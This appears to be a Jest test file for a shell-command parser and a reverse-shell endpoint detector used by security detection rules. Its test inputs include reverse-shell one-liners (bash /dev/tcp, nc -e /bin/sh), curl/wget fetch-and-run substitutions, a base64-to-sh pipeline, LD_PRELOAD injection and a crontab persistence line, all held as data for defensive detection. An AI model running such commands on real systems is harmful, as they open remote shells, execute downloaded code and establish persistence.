/** The -c string reader the behaviour rules use to see pipelines, redirections and substitutions. */

import { remoteInText } from '../../../lambda/domain/detection/rules/behaviour/reverse-shell';
import { allCommands, allPipelines, parseCommandLine } from '../../../lambda/domain/detection/rules/behaviour/support/shell-command';
import { readsCommandsFromStdin, shellCommandString } from '../../../lambda/domain/detection/rules/behaviour/support/shell-invocation';

describe('parseCommandLine', () => {
  it('splits pipelines and lists', () => {
    const p = parseCommandLine('echo aWQK | base64 -d | sh; id && uname -a || true');
    expect(p.pipelines.map((x) => x.map((c) => c.words[0]))).toEqual([['echo', 'base64', 'sh'], ['id'], ['uname'], ['true']]);
  });

  it('keeps quoted words whole and removes the quotes', () => {
    const [cmd] = allCommands(parseCommandLine(`echo "a | b" 'c; d' e\\ f`));
    expect(cmd?.words).toEqual(['echo', 'a | b', 'c; d', 'e f']);
  });

  it('reads redirections, including fd-numbered and &> forms', () => {
    const [cmd] = allCommands(parseCommandLine('bash -i >& /dev/tcp/127.0.0.1/4444 0>&1 2>/dev/null'));
    expect(cmd?.words).toEqual(['bash', '-i']);
    expect(cmd?.redirects).toEqual([
      { op: '>&', target: '/dev/tcp/127.0.0.1/4444' },
      { op: '0>&', target: '1' },
      { op: '2>', target: '/dev/null' },
    ]);
  });

  it('separates leading assignments from words', () => {
    const [cmd] = allCommands(parseCommandLine('LD_PRELOAD=/tmp/x.so FOO="a b" /usr/bin/true arg=1'));
    expect(cmd?.assignments).toEqual([
      { name: 'LD_PRELOAD', value: '/tmp/x.so' },
      { name: 'FOO', value: 'a b' },
    ]);
    expect(cmd?.words).toEqual(['/usr/bin/true', 'arg=1']);
  });

  it('parses command substitutions and process substitutions separately', () => {
    const p = parseCommandLine('sh -c "$(curl -fsSL http://127.0.0.1/x.sh)"; bash <(wget -qO- http://127.0.0.1/y)');
    const inner = allPipelines(p).flatMap((x) => x.map((c) => c.words[0]));
    expect(inner).toEqual(expect.arrayContaining(['curl', 'wget']));
  });

  it('keeps a pipe after a grouped list', () => {
    const p = parseCommandLine('(crontab -l; echo "* * * * * /tmp/x") | crontab -');
    const last = p.pipelines[p.pipelines.length - 1];
    expect(last?.map((c) => c.words[0])).toEqual(['echo', 'crontab']);
  });

  it('never throws on unbalanced input', () => {
    for (const s of ['"unterminated', "'x", '$(', '`', 'a >', '|||', '((((']) expect(() => parseCommandLine(s)).not.toThrow();
  });
});

describe('shell invocation', () => {
  it('finds the -c string', () => {
    expect(shellCommandString(['sh', '-c', 'id', 'arg0'])).toBe('id');
    expect(shellCommandString(['bash', '-lc', 'id'])).toBe('id');
    expect(shellCommandString(['bash', 'script.sh'])).toBeUndefined();
  });

  it('tells shells that read commands from stdin', () => {
    expect(readsCommandsFromStdin(['/bin/sh', '-i'])).toBe(true);
    expect(readsCommandsFromStdin(['bash'])).toBe(true);
    expect(readsCommandsFromStdin(['bash', '-s'])).toBe(true);
    expect(readsCommandsFromStdin(['bash', '/tmp/x.sh'])).toBe(false);
    expect(readsCommandsFromStdin(['sh', '-c', 'id'])).toBe(false);
  });
});

describe('remoteInText', () => {
  it.each([
    ['s.connect(("192.0.2.7",4444))', '192.0.2.7', 4444],
    ['$i="198.51.100.9";$p=1234;socket(S,PF_INET', '198.51.100.9', 1234],
    ['bash -i >& /dev/tcp/203.0.113.5/8443 0>&1', '203.0.113.5', 8443],
    ['nc 127.0.0.1 9001 -e /bin/sh', '127.0.0.1', 9001],
  ])('finds the endpoint in %s', (text, ip, port) => {
    expect(remoteInText(text)).toEqual({ ip, port });
  });

  it('finds nothing without an address and a port', () => {
    expect(remoteInText('socket(S,PF_INET,SOCK_STREAM)')).toBeUndefined();
    expect(remoteInText('version 1.2.3.4')).toBeUndefined();
    expect(remoteInText('999.1.1.1:80')).toBeUndefined();
  });
});
